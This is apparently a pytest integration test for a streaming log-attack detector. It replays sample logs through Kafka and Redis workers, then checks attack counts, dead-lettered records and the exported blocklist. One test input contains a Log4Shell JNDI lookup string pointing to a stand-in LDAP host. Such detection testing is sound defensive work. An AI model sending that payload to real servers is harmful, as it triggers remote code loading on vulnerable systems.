"""The whole path on the real local Kafka and Redis: replay → detect → enrich → report."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from confluent_kafka import Consumer
from confluent_kafka.admin import AdminClient

from tests.conftest import DEMO, Namespace

pytestmark = [pytest.mark.integration, pytest.mark.slow]

SAMPLE = [
    str(DEMO / "apache_logs"),
    str(DEMO / "crowdsec_log4j.log"),
    str(DEMO / "corelight_log4j_requests.ecs.jsonl"),
]
GEO = ["--geoip-db", str(DEMO / "geo/dbip-country-lite-demo.mmdb"), "--asn-db", str(DEMO / "geo/asn-lite-demo.mmdb")]


def run_workers(ns: Namespace) -> None:
    """Drain the input through both workers, as a backfill would."""
    enrich = ns.popen("enrich", "--stop-when-idle", "6", *GEO)
    detect = ns.l4s("detect", "--stop-when-idle", "3")
    _, enrich_err = enrich.communicate(timeout=300)
    assert enrich.returncode == 0, enrich_err[-3000:]
    assert_no_error_lines(detect.stderr + enrich_err)


def assert_no_error_lines(stderr: str) -> None:
    for line in stderr.splitlines():
        if line.startswith("{"):
            record = json.loads(line)
            assert record.get("level") not in ("error", "critical"), line


def report(ns: Namespace) -> dict[str, object]:
    return json.loads(ns.l4s("report", "--json").stdout)


def blocklist(ns: Namespace) -> dict[str, dict[str, object]]:
    lines = ns.l4s("blocklist", "export", "--format", "json").stdout.splitlines()
    entries = [json.loads(line) for line in lines]
    return {e["address"]: e for e in entries}


#: Fields computed from the wall clock at decision time.
WALL_CLOCK_FIELDS = ("expires_at", "block_until")


def without_expiry(entries: dict[str, dict[str, object]]) -> dict[str, dict[str, object]]:
    return {k: {f: v for f, v in e.items() if f not in WALL_CLOCK_FIELDS} for k, e in entries.items()}


def test_streaming_counts_and_blocklist_equal_scan(namespace: Namespace, tmp_path: Path) -> None:
    namespace.l4s("topics", "create")
    namespace.l4s("replay", *SAMPLE)
    run_workers(namespace)

    streamed = report(namespace)
    scan_blocklist = tmp_path / "blocklist.jsonl"
    scanned = json.loads(namespace.l4s("scan", "--json", "--blocklist", str(scan_blocklist), *GEO, *SAMPLE).stdout)

    assert streamed == scanned
    assert streamed["lines"] == 10_021
    # Line 8,899 of the real Apache log is cut inside its User-Agent.
    assert streamed["dead_letters"] == 1
    assert streamed["attacks"] >= 20
    scan_entries = {e["address"]: e for e in map(json.loads, scan_blocklist.read_text().splitlines())}
    assert scan_entries, "the demo sample has sources rated high enough to block"
    assert without_expiry(blocklist(namespace)) == without_expiry(scan_entries)
    # The private address of the CrowdSec fixture is counted but never blocked.
    assert "192.168.1.3" not in scan_entries


def test_malformed_record_is_dead_lettered_and_the_worker_keeps_going(namespace: Namespace, tmp_path: Path) -> None:
    good = (DEMO / "apache_logs").read_bytes().splitlines()[:3]
    attack = (DEMO / "crowdsec_log4j.log").read_bytes().strip()
    garbage = b'\x00\xff\xfe not a log line "${jndi:ldap://unparsed.example/a}'
    sample = tmp_path / "mixed.log"
    sample.write_bytes(b"\n".join([*good, garbage, attack, b'{"@timestamp": 12, "source": ']) + b"\n")
    namespace.l4s("topics", "create")
    namespace.l4s("replay", str(sample))
    run_workers(namespace)

    counts = report(namespace)
    assert (counts["lines"], counts["parsed"], counts["dead_letters"]) == (6, 4, 2)
    assert counts["attacks"] == 1

    dead = read_topic(namespace, namespace.env["L4S_TOPICS__DEAD_LETTER"], expected=2)
    assert sorted(value for value, _ in dead) == sorted([garbage, b'{"@timestamp": 12, "source": '])
    for _, headers in dead:
        assert headers["l4s-reason"] in (b"not_access_log", b"not_json")
        assert headers["l4s-source"].startswith(namespace.env["L4S_TOPICS__INPUT"].encode() + b"/")


def test_redelivered_records_are_counted_once(namespace: Namespace) -> None:
    namespace.l4s("topics", "create")
    namespace.l4s("replay", *SAMPLE)
    run_workers(namespace)
    first = report(namespace)
    first_blocklist = without_expiry(blocklist(namespace))

    # Forget both workers' committed offsets: every record is delivered again.
    forget_offsets(namespace)
    run_workers(namespace)

    assert report(namespace) == first
    assert without_expiry(blocklist(namespace)) == first_blocklist


def forget_offsets(ns: Namespace) -> None:
    admin = AdminClient({"bootstrap.servers": ns.stack.bootstrap})
    groups = [ns.env["L4S_DETECT__GROUP"], ns.env["L4S_ENRICH__APP_ID"]]
    for future in admin.delete_consumer_groups(groups, request_timeout=30).values():
        future.result()


def read_topic(ns: Namespace, topic: str, expected: int) -> list[tuple[bytes, dict[str, bytes]]]:
    consumer = Consumer({"bootstrap.servers": ns.stack.bootstrap, "group.id": f"{ns.name}-reader", "auto.offset.reset": "earliest"})
    consumer.subscribe([topic])
    out: list[tuple[bytes, dict[str, bytes]]] = []
    try:
        for _ in range(60):
            for message in consumer.consume(100, timeout=1.0):
                assert message.error() is None
                out.append((message.value(), dict(message.headers() or [])))
            if len(out) >= expected:
                break
    finally:
        consumer.close()
    out.sort(key=lambda item: item[1].get("l4s-source", b""))
    return out
